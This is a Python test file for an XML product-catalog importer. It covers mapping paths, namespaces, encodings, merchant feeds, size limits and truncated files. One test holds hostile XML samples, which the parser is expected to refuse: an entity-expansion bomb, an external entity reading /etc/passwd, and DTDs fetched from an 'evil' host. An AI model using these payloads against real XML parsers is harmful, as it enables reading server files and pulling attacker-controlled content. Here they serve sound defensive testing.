"""XML exports: paths through a mapping, and what a hostile or broken file may not do."""

from __future__ import annotations

import re
from collections.abc import Iterator
from pathlib import Path
from typing import Any
from xml.sax.saxutils import escape

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from connectors.sources.mapping import Mapping
from connectors.vendors.drops import xml_records as limits
from connectors.vendors.drops.xml_source import XmlSource
from studio.errors import InputError, RowError
from studio.product import ImageRole, Product

ERP = """<?xml version="1.0" encoding="ISO-8859-1"?>
<!-- nightly --><catalog xmlns:x="urn:x"><head><product-count>2</product-count></head><products>
<product id="7"><x:Sku> MUG-1 </x:Sku><Name>Becher <b>gro\xdf</b> &amp; sch\xf6n</Name>
 <Media><Image url="https://erp/a.jpg"/><Image url="https://erp/b.jpg"/></Media>
 <Features><Feature code="colour"><Value>Red</Value></Feature><Feature code="material"><Value>Clay</Value></Feature></Features>
 <FEATURE><FNAME>Shape</FNAME><FVALUE>round</FVALUE></FEATURE><Size unit="cm"><H>9.5</H></Size><Tag>one</Tag><Tag>two</Tag>
 <Line><product><Sku>NESTED</Sku></product></Line></product>
<product id="8"><Sku></Sku></product><product id="9"><Sku>MUG-2</Sku></product></products></catalog>"""
MAPPING: dict[str, Any] = {
    "sku": "Sku",
    "title": "Name",
    "attributes": {
        "number": "@id",
        "colour": "Features/Feature[@code='colour']/Value",
        "shape": "FEATURE[FNAME='Shape']/FVALUE",
        "tags": "Tag",
    },
    "dimensions": {"height": "Size/H", "unit_column": "Size/@unit"},
    "images": [{"column": "Media/Image/@url"}],
}


def read(tmp_path: Path, text: str | bytes, mapping: dict[str, Any] | None = None, record: str = "") -> list[Any]:
    path = tmp_path / "catalog.xml"
    path.write_bytes(text if isinstance(text, bytes) else text.encode())
    return list(XmlSource(path, Mapping.model_validate(mapping) if mapping else None, record))


def test_paths_attributes_namespaces_and_another_encoding(tmp_path: Path) -> None:
    mug, empty, plain = read(tmp_path, ERP.encode("latin-1"), MAPPING)
    assert isinstance(mug, Product)
    assert (mug.sku, mug.title) == ("MUG-1", "Becher groß & schön")
    assert mug.attributes == {"number": "7", "colour": "Red", "shape": "round", "tags": "one|two"}
    assert mug.dimensions.height_mm == 95
    assert [(image.uri, image.role) for image in mug.images] == [
        ("https://erp/a.jpg", ImageRole.FRONT),
        ("https://erp/b.jpg", ImageRole.DETAIL),
    ]
    assert isinstance(empty, RowError)
    assert (empty.line, empty.field) == (8, "Sku")
    assert isinstance(plain, Product)
    assert plain.sku == "MUG-2"


def test_a_record_by_its_path_and_by_its_name(tmp_path: Path) -> None:
    text = "<a><item><sku>no</sku></item><list><item><sku>yes</sku></item></list></a>"
    assert [item.sku for item in read(tmp_path, text, {"sku": "sku"}, "/a/list/item")] == ["yes"]
    text = "<a><thing><sku>1</sku></thing><item><sku>2</sku></item></a>"
    assert [item.sku for item in read(tmp_path, text, {"sku": "sku"}, "thing")] == ["1"]
    with pytest.raises(InputError, match=re.escape("options.record")):
        read(tmp_path, "<a><b><sku>1</sku></b></a>", {"sku": "sku"})


def test_a_merchant_feed_needs_no_mapping(tmp_path: Path) -> None:
    feed = """<rss xmlns:g="http://base.google.com/ns/1.0"><channel><title>Shop</title><item><g:id>A</g:id><title>Mug</title>
    <g:image_link>https://shop/a.jpg</g:image_link><g:additional_image_link>https://shop/b.jpg</g:additional_image_link>
    <g:additional_image_link>https://shop/c.jpg</g:additional_image_link><g:brand>Ostheim</g:brand><g:price>5 EUR</g:price>
    <g:color>red</g:color></item></channel></rss>"""
    (mug,) = read(tmp_path, feed)
    assert (mug.sku, mug.title, mug.brand, mug.attributes) == ("A", "Mug", "Ostheim", {"color": "red"})
    assert [image.uri[-5:] for image in mug.images] == ["a.jpg", "b.jpg", "c.jpg"]


def test_a_path_that_no_record_has_is_told_once(tmp_path: Path) -> None:
    *products, error = read(tmp_path, ERP.encode("latin-1"), {"sku": "Sku", "title": "Nmae"})
    assert isinstance(error, RowError)
    assert error.field == "Nmae"
    assert len(products) == 3


@pytest.mark.parametrize("path", ["/Sku", "a[", "g:id", "a[1", ""])
def test_a_path_that_is_none(tmp_path: Path, path: str) -> None:
    with pytest.raises((InputError, ValueError)):
        read(tmp_path, "<a><item><sku>1</sku></item></a>", {"sku": "sku", "attributes": {"x": path}})


BOMB = '<!DOCTYPE a [<!ENTITY b "&c;&c;"><!ENTITY c "lol">]><a><item><sku>&b;</sku></item></a>'


@pytest.mark.parametrize(
    ("text", "says"),
    [
        (BOMB, "DOCTYPE"),
        ('<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a><item><sku>&x;</sku></item></a>', "DOCTYPE"),
        ('<!DOCTYPE a [<!ATTLIST item x CDATA "long">]><a><item><sku>1</sku></item></a>', "DOCTYPE"),
        ('<!DOCTYPE a [<!ENTITY % p SYSTEM "http://evil/x.dtd"> %p;]><a><item><sku>1</sku></item></a>', "DOCTYPE"),
        ('<!DOCTYPE a SYSTEM "http://evil/x.dtd"><a><item><sku>&x;</sku></item></a>', "declared nowhere"),
        ("<a><item><sku>&nbsp;</sku></item></a>", "not well-formed"),
        ("<a><item><sku>1</sku></item>", "not well-formed"),
        ("<a><item><sku>1</item></a>", "not well-formed"),
        ("", "not well-formed"),
        ("not xml", "not well-formed"),
        ('<?xml version="1.0" encoding="utf-7"?><a/>', "not well-formed"),
        ("<a>" * (limits.MAX_DEPTH + 1), "deep"),
    ],
)
def test_what_is_refused(tmp_path: Path, text: str, says: str) -> None:
    with pytest.raises(InputError, match=says):
        read(tmp_path, text, {"sku": "sku"})


def test_a_plain_document_type_names_nothing_that_is_read(tmp_path: Path) -> None:
    text = '<!DOCTYPE a SYSTEM "http://nobody.invalid/x.dtd"><a><item><sku>1</sku></item></a>'
    assert [item.sku for item in read(tmp_path, text, {"sku": "sku"})] == ["1"]


def test_a_record_that_is_too_large_leaves_its_neighbours_alone(tmp_path: Path) -> None:
    large = "x" * (limits.MAX_RECORD + 1)
    many = "<n/>" * (limits.MAX_NODES + 1)
    text = f"<a><item><sku>1</sku></item><item><sku>2</sku><t>{large}</t></item><item>{many}<sku>3</sku></item><item><sku>4</sku></item></a>"
    first, second, third, fourth = read(tmp_path, text, {"sku": "sku"})
    assert (first.sku, fourth.sku) == ("1", "4")
    assert "characters" in second.problem
    assert "elements" in third.problem


@pytest.mark.parametrize("opening", ["<!--", '<item x="', "<?go "])
def test_what_never_ends_is_not_kept_in_memory(tmp_path: Path, opening: str) -> None:
    text = b"<a>" + opening.encode() + b"x" * (limits.MAX_SILENCE + (1 << 20))
    with pytest.raises(InputError, match="without an element"):
        read(tmp_path, text, {"sku": "sku"})


_text = st.text(st.characters(codec="utf-8", exclude_categories=["Cc", "Cs", "Cn"]), max_size=20)


@given(rows=st.lists(st.tuples(_text, _text), min_size=1, max_size=6), cut=st.integers(0, 400))
@settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
def test_any_text_comes_back_and_half_a_file_never_makes_another_product(
    tmp_path: Path, rows: list[tuple[str, str]], cut: int
) -> None:
    records = "".join(
        f"<item><sku>S-{n}</sku><t>{escape(title)}</t><v x={_quoted(value)}/></item>" for n, (title, value) in enumerate(rows)
    )
    text = f"<a>{records}</a>".encode()
    mapping = {"sku": "sku", "title": "t", "attributes": {"v": "v/@x"}}
    whole = [item for item in read(tmp_path, text, mapping) if isinstance(item, Product)]
    assert [item.title for item in whole] == [title.strip() for title, _ in rows]
    assert [item.attributes.get("v", "") for item in whole] == [" ".join(value.split("\t")).strip() for _, value in rows]
    path = tmp_path / "half.xml"
    path.write_bytes(text[: len(text) - 1 - cut % len(text)])
    half = list(until_broken(XmlSource(path, Mapping.model_validate(mapping))))
    assert isinstance(half.pop(), InputError)
    assert half == whole[: len(half)]


def until_broken(source: XmlSource) -> Iterator[Any]:
    """What comes, and at last the error that ended it."""
    try:
        yield from source
    except InputError as error:
        yield error


def _quoted(value: str) -> str:
    return '"' + escape(value, {'"': "&quot;"}) + '"'
